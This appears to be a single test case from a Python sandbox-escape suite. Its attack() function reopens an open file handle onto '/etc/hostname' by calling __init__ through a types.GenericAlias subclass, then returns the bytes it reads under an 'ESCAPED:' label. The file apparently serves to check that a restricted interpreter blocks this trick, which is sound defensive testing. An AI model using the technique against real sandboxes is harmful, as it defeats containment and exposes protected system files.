"""No app opens a file by making an open one begin again."""

CLASS = "files"
BOUNDARY = "both"
NEEDS = ("types",)


import types


class Alias(types.GenericAlias):
    pass


def attack():
    file = open(__file__, "rb", 0)
    Alias(file, (int,)).__init__("/etc/hostname")
    return "ESCAPED: " + file.read(20).decode()
